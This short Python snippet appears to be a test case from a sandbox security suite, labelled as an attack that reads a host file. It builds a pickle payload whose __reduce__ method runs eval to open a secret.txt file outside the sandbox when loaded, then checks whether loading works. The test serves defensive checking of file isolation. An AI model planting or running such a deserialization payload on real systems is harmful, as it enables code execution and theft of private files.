# attack: Reads a file of the host by a pickle that runs code when it is loaded.
# without: files
import pickle
class Poison:
    def __reduce__(self): return eval, ("open(%r).read()" % (argument["outside"] + "/secret.txt"),)
open("data.pickle", "wb").write(pickle.dumps(Poison()))
result = works(lambda: pickle.load(open("data.pickle", "rb")))
